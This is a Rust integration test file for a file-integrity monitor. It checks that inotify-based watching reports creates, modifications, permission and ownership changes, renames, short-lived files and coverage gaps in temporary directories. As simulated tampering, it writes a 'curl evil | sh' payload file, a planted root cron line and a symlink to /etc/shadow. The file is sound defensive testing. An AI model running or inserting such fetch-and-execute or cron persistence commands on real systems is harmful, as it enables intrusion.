//! Real inotify on temp trees.

use crate::common::{changes, config_for, p, sha256_hex, start, tree, wait_change};
use guestward_fim::config::Attribute;
use guestward_fim::{ChangeKind, Mechanism};
use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::time::Duration;

const WAIT: Duration = Duration::from_secs(10);

#[test]
fn realtime_create_modify_chmod_chown_rename_delete_symlink_swap_and_new_subdirectory() {
    let (dir, root) =
        tree(&[("a.txt", "a"), ("b.txt", "b"), ("sub/c.txt", "c"), ("victim", "v"), ("swap", "s")]);
    let state = dir.path().join("state");
    let (monitor, events) = start(config_for(&root, vec![]), &state);
    assert!(changes(&events).is_empty(), "the first baseline reports nothing: {:?}", changes(&events));
    assert!(monitor.status().watches_used >= 2);

    // create
    std::fs::write(root.join("new.txt"), "new").unwrap();
    let c = wait_change(&events, WAIT, |c| c.path == p(&root.join("new.txt")));
    assert_eq!(c.change, ChangeKind::Added);
    assert_eq!(c.mechanism, Mechanism::Realtime);
    assert_eq!(c.new.unwrap().sha256.unwrap(), sha256_hex(b"new"));

    // modify (reported on close-write, with the new hash)
    std::fs::write(root.join("a.txt"), "A!").unwrap();
    let c = wait_change(&events, WAIT, |c| c.path == p(&root.join("a.txt")));
    assert_eq!(c.change, ChangeKind::Modified);
    assert!(c.changed.contains(&Attribute::Sha256) && c.changed.contains(&Attribute::Size), "{c:?}");
    assert_eq!(c.old.unwrap().sha256.unwrap(), sha256_hex(b"a"));
    assert_eq!(c.new.unwrap().sha256.unwrap(), sha256_hex(b"A!"));

    // chmod
    std::fs::set_permissions(root.join("b.txt"), std::fs::Permissions::from_mode(0o4755)).unwrap();
    let c = wait_change(&events, WAIT, |c| c.path == p(&root.join("b.txt")));
    assert!(c.changed.contains(&Attribute::Mode), "{c:?}");
    assert!(!c.changed.contains(&Attribute::Sha256));
    assert_eq!(c.new.unwrap().mode, "4755");

    // chown
    std::os::unix::fs::chown(root.join("victim"), Some(4242), Some(4343)).unwrap();
    let c =
        wait_change(&events, WAIT, |c| c.path == p(&root.join("victim")) && c.change == ChangeKind::Modified);
    assert!(c.changed.contains(&Attribute::Uid) && c.changed.contains(&Attribute::Gid), "{c:?}");

    // rename with from/to
    std::fs::rename(root.join("sub/c.txt"), root.join("sub/c2.txt")).unwrap();
    let c = wait_change(&events, WAIT, |c| c.path == p(&root.join("sub/c2.txt")));
    assert_eq!(c.change, ChangeKind::Renamed, "{c:?}");
    assert_eq!(c.old_path.as_deref(), Some(p(&root.join("sub/c.txt")).as_str()));

    // delete
    std::fs::remove_file(root.join("victim")).unwrap();
    let c =
        wait_change(&events, WAIT, |c| c.path == p(&root.join("victim")) && c.change == ChangeKind::Removed);
    assert_eq!(c.old.unwrap().uid, 4242);

    // symlink swap: a regular file atomically replaced by a symlink to a sensitive file
    std::os::unix::fs::symlink("/etc/shadow", root.join(".swap.tmp")).unwrap();
    std::fs::rename(root.join(".swap.tmp"), root.join("swap")).unwrap();
    let c = wait_change(&events, WAIT, |c| c.path == p(&root.join("swap")) && c.change != ChangeKind::Added);
    assert!(c.changed.contains(&Attribute::Type), "{c:?}");
    assert_eq!(c.new.as_ref().unwrap().link_target.as_deref(), Some("/etc/shadow"));
    assert!(c.new.unwrap().sha256.is_none(), "symlinks are never followed");

    // new subdirectory with files written before its watch can exist
    std::fs::create_dir_all(root.join("newdir/deep")).unwrap();
    std::fs::write(root.join("newdir/x"), "x").unwrap();
    std::fs::write(root.join("newdir/deep/y"), "y").unwrap();
    let y = wait_change(&events, WAIT, |c| c.path == p(&root.join("newdir/deep/y")));
    assert_eq!(y.new.unwrap().sha256.unwrap(), sha256_hex(b"y"));
    wait_change(&events, WAIT, |c| c.path == p(&root.join("newdir/x")));
    // and a file created after the watch is placed is seen too
    std::thread::sleep(Duration::from_millis(300));
    std::fs::write(root.join("newdir/deep/z"), "z").unwrap();
    let z = wait_change(&events, WAIT, |c| c.path == p(&root.join("newdir/deep/z")));
    assert_eq!(z.mechanism, Mechanism::Realtime);

    // Every change was reported once.
    std::thread::sleep(Duration::from_millis(600));
    let all = changes(&events);
    for path in ["new.txt", "a.txt", "b.txt", "newdir/x", "newdir/deep/y", "newdir/deep/z"] {
        let n = all.iter().filter(|c| c.path == p(&root.join(path))).count();
        assert_eq!(n, 1, "{path}: {all:#?}");
    }
    assert!(all.iter().all(|c| c.mechanism == Mechanism::Realtime), "{all:#?}");
    let status = monitor.status();
    assert!(!status.degraded, "{status:?}");
    monitor.stop();
}

#[test]
fn burst_of_1000_writes_yields_one_change_with_the_final_hash() {
    let (dir, root) = tree(&[("burst", "initial")]);
    let (monitor, events) = start(config_for(&root, vec![]), &dir.path().join("state"));
    let mut last = String::new();
    for i in 0..1000 {
        let mut f = std::fs::File::create(root.join("burst")).unwrap();
        last = format!("content {i}");
        f.write_all(last.as_bytes()).unwrap();
    }
    let c = wait_change(&events, WAIT, |c| c.path == p(&root.join("burst")));
    assert_eq!(c.new.unwrap().sha256.unwrap(), sha256_hex(last.as_bytes()));
    std::thread::sleep(Duration::from_millis(800));
    let n = changes(&events).iter().filter(|c| c.path == p(&root.join("burst"))).count();
    assert_eq!(n, 1, "{:#?}", changes(&events));
    monitor.stop();
}

#[test]
fn watch_budget_skips_excluded_subtrees_and_falls_back_to_rescans() {
    let (dir, root) = tree(&[("a/1", "1"), ("b/2", "2"), ("cache/x/y/z/3", "3"), ("c/d/e/4", "4")]);
    // Excluded: cache and everything below it must not consume watches.
    let mut cfg = config_for(&root, vec![format!("{}/cache", root.display())]);
    let mut with_absent = cfg.clone();
    let absent = dir.path().join("nowhere/.ssh/authorized_keys");
    with_absent
        .paths
        .push(guestward_fim::config::PathEntry::Simple(guestward_core::AbsolutePath::new(&absent).unwrap()));
    let (monitor, _events) = start(with_absent, &dir.path().join("state"));
    let s = monitor.status();
    // tree, a, b, c, c/d, c/d/e + the parent of the tree root
    assert_eq!(s.watches_used, 7, "{s:#?}");
    let t = s.trees.iter().find(|t| t.path == p(&absent)).unwrap();
    assert_eq!(t.mode, guestward_fim::monitor::TreeMode::Absent);
    assert!(!s.degraded, "a path that does not exist is not a coverage loss: {s:#?}");
    monitor.stop();

    // Now a budget too small for the tree: it is reported and checked by rescans, which run
    // on their own timer.
    cfg.max_watches = 3;
    cfg.unwatched_rescan_interval_secs = 1;
    let (monitor, events) = start(cfg.clone(), &dir.path().join("state2"));
    let s = monitor.status();
    assert!(s.degraded, "{s:#?}");
    assert_eq!(s.watches_used, 0);
    assert!(s.degraded_reasons.iter().any(|r| r.contains("rescans")), "{s:#?}");
    let gap = events.lock().unwrap().iter().find(|e| e.kind == "coverage.gap").cloned().unwrap();
    assert_eq!(gap.data["cause"], "watch_budget");
    std::fs::write(root.join("a/1"), "changed").unwrap();
    let c = wait_change(&events, WAIT, |c| c.path == p(&root.join("a/1")));
    assert_eq!(c.mechanism, Mechanism::Rescan);
    assert_eq!(c.new.unwrap().sha256.unwrap(), sha256_hex(b"changed"));
    // The event log holds the gap and the change for `agentctl fim events --since`.
    let logged = monitor.events_since(guestward_core::Timestamp::from_unix_secs(0).unwrap(), 100).unwrap();
    assert!(logged.iter().any(|e| e.kind == "coverage.gap"));
    let lines: Vec<String> = logged.iter().map(guestward_fim::events::render_event_line).collect();
    assert!(lines.iter().any(|l| l.contains("coverage gap #1 OPEN (watch_budget)")), "{lines:#?}");
    assert!(lines.iter().any(|l| l.contains("modified") && l.contains("[rescan]")), "{lines:#?}");
    assert!(logged.iter().any(|e| e.kind == "fim.change" && e.data["path"] == p(&root.join("a/1"))));
    let mut human = Vec::new();
    monitor.status().render_human(&mut human).unwrap();
    let human = String::from_utf8(human).unwrap();
    assert!(human.contains("DEGRADED") && human.contains("rescan-only"), "{human}");
    monitor.stop();

    // A restart opens the gap again under a new id: a history holding several runs never
    // shows two different gaps as #1.
    let ids_before: Vec<u64> =
        logged.iter().filter(|e| e.kind == "coverage.gap").filter_map(|e| e.data["id"].as_u64()).collect();
    let (monitor, events) = start(cfg, &dir.path().join("state2"));
    let again = events.lock().unwrap().iter().find(|e| e.data["cause"] == "watch_budget").cloned().unwrap();
    let newest_before = ids_before.iter().max().copied().unwrap();
    assert!(again.data["id"].as_u64().unwrap() > newest_before, "{again:?} after {ids_before:?}");
    monitor.stop();
}

#[test]
fn trees_that_share_directories_are_fully_covered_with_each_directory_watched_once() {
    // The shape of the default paths: a tree (`/etc`), a tree inside it (`/etc/pam.d`) and a
    // file in it (`/etc/sudoers`). The tree's directory is also the parent watched for the
    // inner tree and the file, and the inner tree's directories are the outer tree's too.
    let (dir, root) =
        tree(&[("pam.d/login", "l"), ("pam.d/deep/x", "x"), ("sudoers", "s"), ("other/y", "y")]);
    let mut cfg = config_for(&root, vec![]);
    for inner in ["pam.d", "sudoers"] {
        cfg.paths.push(guestward_fim::config::PathEntry::Simple(
            guestward_core::AbsolutePath::new(root.join(inner)).unwrap(),
        ));
    }
    // A budget of exactly the distinct directories is enough: the inner trees' directories
    // are watched already and cost nothing more.
    cfg.max_watches = 5;
    let (monitor, _events) = start(cfg, &dir.path().join("state"));
    let s = monitor.status();
    // root, pam.d, pam.d/deep, other + the parent of the root: each once.
    assert_eq!(s.watches_used, 5, "{s:#?}");
    assert!(s.trees.iter().all(|t| t.mode == guestward_fim::monitor::TreeMode::Realtime), "{s:#?}");
    assert_eq!(s.watches_wanted(), s.watches_used, "{s:#?}");
    assert!(!s.degraded, "{s:#?}");
    let report = guestward_fim::report::FimReport::from_status(&s);
    assert_eq!((report.watches_granted, report.watches_wanted), (5, 5));
    assert!(report.problems().is_empty(), "full coverage reported short: {:?}", report.problems());
    let mut human = Vec::new();
    s.render_human(&mut human).unwrap();
    let human = String::from_utf8(human).unwrap();
    assert!(human.contains("watches:    5 of a budget of 5\n"), "{human}");
    assert!(human.contains(", 0 watcher error(s)\n") && human.contains("coverage:   complete"), "{human}");
    monitor.stop();
}

#[test]
fn a_new_directory_beyond_the_budget_degrades_to_rescans_but_is_still_scanned() {
    let (dir, root) = tree(&[("a/1", "1")]);
    let mut cfg = config_for(&root, vec![]);
    // tree + a + the parent: exactly the budget.
    cfg.max_watches = 3;
    let (monitor, events) = start(cfg, &dir.path().join("state"));
    assert!(!monitor.status().degraded, "{:#?}", monitor.status());
    std::fs::create_dir(root.join("b")).unwrap();
    std::fs::write(root.join("b/inside"), "i").unwrap();
    let c = wait_change(&events, WAIT, |c| c.path == p(&root.join("b/inside")));
    assert_eq!(c.new.unwrap().sha256.unwrap(), sha256_hex(b"i"));
    let gap = events.lock().unwrap().iter().find(|e| e.kind == "coverage.gap").cloned().unwrap();
    assert_eq!(gap.data["cause"], "watch_budget");
    assert_eq!(gap.data["trees"][0], p(&root));
    monitor.stop();
}

#[test]
fn changes_while_the_agent_was_stopped_are_found_at_start_inside_a_gap() {
    let (dir, root) = tree(&[("f", "1")]);
    let state = dir.path().join("state");
    let (monitor, _) = start(config_for(&root, vec![]), &state);
    monitor.stop();
    std::fs::write(root.join("f"), "while stopped").unwrap();
    let (monitor, events) = start(config_for(&root, vec![]), &state);
    // The startup rescan ran before the monitor reported `watching`.
    let c = wait_change(&events, WAIT, |c| c.path == p(&root.join("f")));
    assert_eq!(c.mechanism, Mechanism::Rescan);
    assert_eq!(c.new.unwrap().sha256.unwrap(), sha256_hex(b"while stopped"));
    let gaps: Vec<_> =
        events.lock().unwrap().iter().filter(|e| e.kind == "coverage.gap").map(|e| e.data.clone()).collect();
    assert_eq!(gaps.len(), 2, "opened and closed: {gaps:#?}");
    assert_eq!(gaps[0]["cause"], "agent_not_running");
    assert!(gaps[0]["end"].is_null() && !gaps[1]["end"].is_null());
    assert!(monitor.status().open_gaps.is_empty());
    monitor.stop();
}

/// Changes of `path` of kind `kind`.
fn of_kind(events: &crate::common::Events, path: &std::path::Path, kind: ChangeKind) -> usize {
    changes(events).iter().filter(|c| c.path == p(path) && c.change == kind).count()
}

#[test]
fn file_living_shorter_than_the_debounce_is_reported_added_then_removed() {
    let (dir, root) = tree(&[("keep", "k")]);
    let (monitor, events) = start(config_for(&root, vec![]), &dir.path().join("state"));
    let f = root.join("dropper");
    let t0 = std::time::Instant::now();
    {
        let mut out = std::fs::File::create(&f).unwrap();
        out.write_all(b"payload").unwrap();
    }
    std::fs::remove_file(&f).unwrap();
    let lived = t0.elapsed();
    assert!(lived < Duration::from_millis(150), "the file must live shorter than the debounce: {lived:?}");

    let added = wait_change(&events, WAIT, |c| c.path == p(&f) && c.change == ChangeKind::Added);
    let removed = wait_change(&events, WAIT, |c| c.path == p(&f) && c.change == ChangeKind::Removed);
    assert_eq!((added.mechanism, removed.mechanism), (Mechanism::Realtime, Mechanism::Realtime));
    let t = added.transient.clone().expect("marked transient");
    assert!(t.first_seen <= t.last_seen, "{t:?}");
    assert_eq!(removed.transient, added.transient);
    // Whatever was captured while it existed is the same on both events.
    assert_eq!(added.new, removed.old);
    let all = changes(&events);
    let pos = |k: ChangeKind| all.iter().position(|c| c.path == p(&f) && c.change == k).unwrap();
    assert!(pos(ChangeKind::Added) < pos(ChangeKind::Removed), "added first: {all:#?}");
    assert!(added.human().contains("transient"), "{}", added.human());
    // Each of the two once, and nothing about the file that did not change.
    std::thread::sleep(Duration::from_millis(600));
    let all = changes(&events);
    assert_eq!(all.iter().filter(|c| c.path == p(&f)).count(), 2, "{all:#?}");
    assert!(all.iter().all(|c| c.path != p(&root.join("keep"))), "{all:#?}");
    monitor.stop();
}

#[test]
fn short_lived_file_is_reported_with_the_hash_captured_while_it_existed() {
    let (dir, root) = tree(&[("keep", "k")]);
    let mut cfg = config_for(&root, vec![]);
    // A long window, so that the file is certainly closed (and captured) before it is deleted
    // and certainly deleted before the window ends.
    cfg.debounce_ms = 3_000;
    let (monitor, events) = start(cfg, &dir.path().join("state"));
    let f = root.join("payload.sh");
    std::fs::write(&f, "curl evil | sh").unwrap();
    std::thread::sleep(Duration::from_millis(400));
    std::fs::remove_file(&f).unwrap();
    let added = wait_change(&events, WAIT, |c| c.path == p(&f) && c.change == ChangeKind::Added);
    let new = added.new.expect("captured while it existed");
    assert_eq!(new.sha256.as_deref(), Some(sha256_hex(b"curl evil | sh").as_str()));
    assert_eq!(new.uid, nix::unistd::geteuid().as_raw());
    assert_eq!(new.size, 14);
    wait_change(&events, WAIT, |c| c.path == p(&f) && c.change == ChangeKind::Removed);
    monitor.stop();
}

#[test]
fn burst_of_short_lived_files_is_reported_once_per_path() {
    const FILES: usize = 300;
    let (dir, root) = tree(&[("keep", "k")]);
    let mut cfg = config_for(&root, vec![]);
    // One window for the whole burst, so that the path churned below is coalesced into one.
    cfg.debounce_ms = 1_000;
    let (monitor, events) = start(cfg, &dir.path().join("state"));
    for i in 0..FILES {
        let f = root.join(format!("tmp{i}"));
        std::fs::write(&f, format!("{i}")).unwrap();
        std::fs::remove_file(&f).unwrap();
    }
    // The same name created and deleted many times: one pending entry, one pair of events.
    let churn = root.join("churn");
    for i in 0..FILES {
        std::fs::write(&churn, format!("{i}")).unwrap();
        std::fs::remove_file(&churn).unwrap();
    }
    wait_change(&events, WAIT, |c| c.path == p(&churn) && c.change == ChangeKind::Removed);
    wait_change(&events, WAIT, |c| c.path == p(&root.join(format!("tmp{}", FILES - 1))));
    std::thread::sleep(Duration::from_millis(1_500));
    for i in 0..FILES {
        let f = root.join(format!("tmp{i}"));
        assert_eq!(of_kind(&events, &f, ChangeKind::Added), 1, "tmp{i}");
        assert_eq!(of_kind(&events, &f, ChangeKind::Removed), 1, "tmp{i}");
    }
    assert_eq!(of_kind(&events, &churn, ChangeKind::Added), 1);
    assert_eq!(of_kind(&events, &churn, ChangeKind::Removed), 1);
    let status = monitor.status();
    assert_eq!(status.overflows, 0, "no gap: every file was tracked: {status:#?}");
    monitor.stop();
}

#[test]
fn atomic_replace_through_a_temporary_name_reports_no_transient_file() {
    let (dir, root) = tree(&[("conf", "old")]);
    let (monitor, events) = start(config_for(&root, vec![]), &dir.path().join("state"));
    // What editors, package managers and `sed -i` do: write a temporary file, rename it over.
    let tmp = root.join(".conf.tmp");
    std::fs::write(&tmp, "new").unwrap();
    std::fs::rename(&tmp, root.join("conf")).unwrap();
    let c = wait_change(&events, WAIT, |c| c.path == p(&root.join("conf")));
    assert_eq!(c.new.unwrap().sha256.unwrap(), sha256_hex(b"new"));
    std::thread::sleep(Duration::from_millis(600));
    let all = changes(&events);
    assert!(all.iter().all(|c| c.path != p(&tmp) && c.transient.is_none()), "{all:#?}");
    monitor.stop();
}

/// A directory renamed away and back within the debounce window (`mv /etc/cron.d x; mv x
/// /etc/cron.d`): the watch library drops its watches at the first rename, and the monitor
/// once still counted them as placed, so files planted inside afterwards went unreported until
/// the next rescan.
#[test]
fn a_directory_renamed_away_and_back_within_the_debounce_stays_watched() {
    let (dir, root) = tree(&[("cron.d/sub/job", "orig")]);
    let state = dir.path().join("state");
    let (monitor, events) = start(config_for(&root, vec![]), &state);
    let watches = monitor.status().watches_used;
    std::fs::rename(root.join("cron.d"), root.join("x")).unwrap();
    std::fs::rename(root.join("x"), root.join("cron.d")).unwrap();
    // The pair settles; then changes inside the directory must be seen in real time.
    std::thread::sleep(Duration::from_millis(1500));
    std::fs::write(root.join("cron.d/sub/job"), "tampered").unwrap();
    std::fs::write(root.join("cron.d/planted"), "* * * * * root sh").unwrap();
    let c = wait_change(&events, WAIT, |c| c.path == p(&root.join("cron.d/sub/job")));
    assert_eq!(c.new.unwrap().sha256.unwrap(), sha256_hex(b"tampered"));
    let c = wait_change(&events, WAIT, |c| c.path == p(&root.join("cron.d/planted")));
    assert_eq!(c.mechanism, Mechanism::Realtime, "{c:?}");
    assert_eq!(monitor.status().watches_used, watches, "every directory watched again");
    // New directories are watched, and the status says so at once (it once kept the count of
    // the last scan).
    for d in ["a", "b", "c"] {
        std::fs::create_dir(root.join("cron.d").join(d)).unwrap();
    }
    wait_change(&events, WAIT, |c| c.path == p(&root.join("cron.d/c")));
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(monitor.status().watches_used, watches + 3);
}

/// A watched directory removed with its files: each file is reported removed once. Their own
/// deletion events, examined after the directory's, once found no record and were reported
/// again as files that came and went in 0 ms (`transient`), though they had existed for long.
#[test]
fn files_removed_with_their_directory_are_reported_once_and_not_as_transient() {
    let (dir, root) = tree(&[("sub/early", "e"), ("sub/deep/x", "x"), ("keep", "k")]);
    let state = dir.path().join("state");
    let (_monitor, events) = start(config_for(&root, vec![]), &state);
    for round in 0..3 {
        std::fs::remove_dir_all(root.join("sub")).unwrap();
        wait_change(&events, WAIT, |c| c.path == p(&root.join("sub/deep/x")));
        std::thread::sleep(Duration::from_millis(1000));
        let about: Vec<_> =
            changes(&events).into_iter().filter(|c| c.path.starts_with(&p(&root.join("sub/")))).collect();
        assert!(about.iter().all(|c| c.transient.is_none()), "round {round}: {about:#?}");
        for file in ["sub/early", "sub/deep/x"] {
            let n = about.iter().filter(|c| c.path == p(&root.join(file))).count();
            assert_eq!(n, 1, "round {round}: {file} reported {n} times: {about:#?}");
        }
        // Back for the next round, recorded by the monitor's rescan of the new directory.
        events.lock().unwrap().clear();
        std::fs::create_dir_all(root.join("sub/deep")).unwrap();
        std::fs::write(root.join("sub/early"), "e").unwrap();
        std::fs::write(root.join("sub/deep/x"), "x").unwrap();
        wait_change(&events, WAIT, |c| c.path == p(&root.join("sub/deep/x")));
        std::thread::sleep(Duration::from_millis(1000));
        events.lock().unwrap().clear();
    }
}
